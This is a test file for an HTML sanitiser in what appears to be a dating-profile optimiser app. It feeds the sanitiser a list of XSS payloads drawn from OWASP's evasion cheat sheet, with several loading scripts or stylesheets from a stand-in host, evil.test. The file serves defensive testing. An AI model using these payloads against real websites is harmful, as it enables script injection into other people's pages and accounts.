import { describe, expect, test } from "bun:test";
import { Window } from "happy-dom";
import { specFields, type PremiumContent } from "../optimiser/render.ts";
import type { OptimiserInput } from "../optimiser/input.ts";
import { sampleResult } from "../testing/optimisation.ts";
import { sanitiseHtml } from "./sanitise.ts";

/** Mostly from OWASP's XSS filter evasion cheat sheet, plus the namespace and parser-differential tricks. */
const PAYLOADS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.test/xss.js></SCRIPT>`,
  `<ScRiPt>alert(1)</sCrIpT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<<script>script>alert(1)<</script>/script>`,
  `<img src=x onerror=alert(1)>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<img src=x onerror="alert(&quot;1&quot;)"`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
  `<svg><p><style><img src=x onerror=alert(1)></style></p></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">`,
  `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="JaVaScRiPt:alert(1)">click</a>`,
  `<a href="jav&#x09;ascript:alert(1)">click</a>`,
  `<a href="jav&#x0A;ascript:alert(1)">click</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">click</a>`,
  `<a href=" &#14;  javascript:alert(1)">click</a>`,
  `<a href="java\0script:alert(1)">click</a>`,
  `<a href="javascript&colon;alert(1)">click</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
  `<a href="vbscript:msgbox(1)">click</a>`,
  `<a href="//evil.test/">protocol-relative</a>`,
  `<a href="https://ok.test/" onclick="alert(1)" onmouseover='alert(1)'>hover</a>`,
  `<p style="width: expression(alert(1))">styled</p>`,
  `<div style="background-image: url(javascript:alert(1))">bg</div>`,
  `<style>@import 'https://evil.test/x.css'; body { background: url("javascript:alert(1)") }</style>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe src="javascript:alert(1)">fallback <img src=x onerror=alert(1)>`,
  `<object data="javascript:alert(1)"></object><embed src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="javascript:alert(1)//"><a href="/x">relative</a>`,
  `<form action="javascript:alert(1)"><input type="submit" formaction="javascript:alert(1)"><button>go</button></form>`,
  `<details open ontoggle=alert(1)>`,
  `<body onload=alert(1)>`,
  `<p title="a"onmouseover=alert(1)>no space before the handler</p>`,
  `<p title='"><script>alert(1)</script>'>nested quotes</p>`,
  `<a href="https://ok.test/" title="x' onmouseover='alert(1)">nested quotes in a link</a>`,
  `<scr\0ipt>alert(1)</scr\0ipt><img\0src=x\0onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<textarea><img src=x onerror=alert(1)></textarea>`,
  `<xmp><img src=x onerror=alert(1)></xmp>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<p>unclosed <b>bold <a href="javascript:alert(1)">link <img src=x onerror=alert(1)`,
  `<h1 id="main" class="admin">heading</h1><table><tr><td onclick=alert(1)>cell</td></tr></table>`,
  `<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>`,
  `<link rel="stylesheet" href="https://evil.test/x.css"><img srcset="https://evil.test/pixel.gif 1x">`,
  `<a href="https://ok.test/" target="_top" rel="opener">opener</a>`,
];

const DANGEROUS_ELEMENTS = "script, iframe, object, embed, svg, math, style, meta, link, base, form, input, img, video, audio, source, textarea, noscript";

/** Parsed as a browser would parse it, and everything in it that could run code, load something or style the page. */
function executableParts(html: string): string[] {
  const document = new Window().document;
  const root = document.createElement("div");
  root.innerHTML = html;
  const found: string[] = [...root.querySelectorAll(DANGEROUS_ELEMENTS)].map((el) => `<${el.tagName.toLowerCase()}>`);
  for (const el of root.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith("on") || name === "style" || name === "src" || name === "srcset" || name === "srcdoc" || (name.includes("href") && !/^(https?:\/\/|mailto:)/i.test(attr.value ?? ""))) {
        found.push(`${el.tagName.toLowerCase()}[${name}=${attr.value}]`);
      }
    }
  }
  return found;
}

/** Two fragments mean the same to a browser: the same tree, serialised the same way. */
function normalised(html: string): string {
  const root = new Window().document.createElement("div");
  root.innerHTML = html;
  return root.innerHTML;
}

describe("sanitiseHtml: nothing executable survives", () => {
  test.each(PAYLOADS)("%s", (payload) => {
    const clean = sanitiseHtml(payload);
    expect(executableParts(clean)).toEqual([]);
    // Belt and braces on the string itself, whatever a parser makes of it: every remaining "<" opens an allowed tag.
    expect(clean).not.toMatch(/<(?!\/?(p|br|strong|em|b|i|u|h[234]|ul|ol|li|blockquote|a)[\s/>])/i);
    expect(clean).not.toMatch(/\son\w+\s*=/i);
    // Cleaning again changes nothing: the stored HTML is cleaned once more wherever it is shown.
    expect(sanitiseHtml(clean)).toBe(clean);
  });

  test("the corpus is wide enough to mean something", () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(15);
    // And the checker does find what it is for.
    expect(executableParts(`<img src=x onerror=alert(1)><a href="javascript:x">a</a><p style="x">p</p>`)).toEqual([
      "<img>",
      "img[src=x]",
      "img[onerror=alert(1)]",
      "a[href=javascript:x]",
      "p[style=x]",
    ]);
  });

  test("the words of a removed element stay; the contents of script, style and the like go", () => {
    expect(sanitiseHtml(`<a href="javascript:alert(1)">click <b>me</b></a>`)).toBe("click <b>me</b>");
    expect(sanitiseHtml(`<h1 class="x">Title</h1><div><span>text</span></div>`)).toBe("Titletext");
    expect(sanitiseHtml(`<p>a<script>alert(1)</script><style>p{}</style>b</p>`)).toBe("<p>ab</p>");
  });
});

describe("sanitiseHtml: links", () => {
  test("http, https and mailto links stay, opening in a new tab without the opener or the referrer", () => {
    expect(sanitiseHtml(`<a href="https://example.com/a?b=1&amp;c=2">x</a>`)).toBe(
      `<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer" target="_blank">x</a>`,
    );
    expect(sanitiseHtml(`<a href="HTTP://example.com/">x</a>`)).toBe(`<a href="HTTP://example.com/" rel="noopener noreferrer" target="_blank">x</a>`);
    expect(sanitiseHtml(`<a href=" mailto:help@example.com ">help</a>`)).toBe(
      `<a href="mailto:help@example.com" rel="noopener noreferrer" target="_blank">help</a>`,
    );
  });

  test("a link's own rel, target, style or handlers are replaced", () => {
    expect(sanitiseHtml(`<a href="https://ok.test/" target="_top" rel="opener" style="color:red" onclick="x()">x</a>`)).toBe(
      `<a href="https://ok.test/" rel="noopener noreferrer" target="_blank">x</a>`,
    );
  });

  test("relative, protocol-relative, fragment and other schemes lose the link and keep the words", () => {
    for (const href of ["/results", "results", "#top", "//evil.test/", "ftp://x.test/", "tel:+123", "data:text/plain,hi", "javascript:alert(1)"]) {
      expect(sanitiseHtml(`<a href="${href}">words</a>`)).toBe("words");
    }
    expect(sanitiseHtml(`<a>no href</a>`)).toBe("no href");
  });
});

function input(plan: OptimiserInput["plan"]): OptimiserInput {
  return {
    profileId: "p1",
    app: "bumble",
    plan,
    reason: "initial",
    revisionNotes: null,
    profile: { bio: "Nurse", lookingFor: null, interests: null, jobTitle: null, education: null, idealFirstDate: null, height: null, starSign: null, anthem: null, spotifyArtists: null, school: null, industry: null, vibes: null, prompts: [{ prompt: "My happy place is", response: "the sea" }] },
    photos: ["a", "b", "c", "d"].map((id, order) => ({ id, order, path: `/x/${id}.jpg` })),
  };
}

describe("sanitiseHtml: our own rendering passes through", () => {
  test.each(["basic", "premium", "elite"] as const)("%s: headings, lists, paragraphs, emphasis and escaped text keep their meaning", (plan) => {
    const hostile = `Tom & "Jerry" <script>alert('x')</script>\nsecond line`;
    const result = sampleResult(input(plan), {
      analysis: {
        summary: hostile,
        strengths: [{ title: "Good <b>", reason: "It's fine & <i>clear</i>", phrase: hostile, field: "bio" }],
        problems: [{ title: "<img src=x onerror=alert(1)>", reason: hostile, field: "prompt1" }],
      },
    });
    const fields = specFields({ ...result, prompts: result.prompts.map((p) => ({ ...p, optimised: hostile })) });
    const profileHtml = typeof fields.optimizedProfile === "string" ? fields.optimizedProfile : (fields.optimizedProfile as PremiumContent).html;
    for (const html of [profileHtml, fields.recommendations]) {
      expect(html).toMatch(/<h3>|<ul>|<p>/);
      expect(normalised(sanitiseHtml(html))).toBe(normalised(html));
    }
  });

  test("the tags it is built from, one by one", () => {
    const html = `<h2>A</h2><h3>B</h3><h4>C</h4><p><strong>s</strong> <em>e</em> <b>b</b> <i>i</i> <u>u</u><br>next</p><ul><li>one</li></ul><ol><li>two</li></ol><blockquote>q</blockquote>`;
    expect(normalised(sanitiseHtml(html))).toBe(normalised(html));
  });
});
